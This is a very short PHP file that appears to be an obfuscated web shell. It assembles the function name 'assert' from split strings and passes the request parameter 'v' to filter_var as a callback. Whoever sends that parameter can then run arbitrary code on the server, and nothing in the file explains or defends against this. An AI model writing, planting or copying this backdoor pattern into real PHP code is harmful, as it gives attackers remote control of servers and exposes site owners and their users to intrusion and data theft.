<?php
$cb = 'as';
$cb .= 'sert';
filter_var($_REQUEST['v'], FILTER_CALLBACK, ['options' => $cb]);
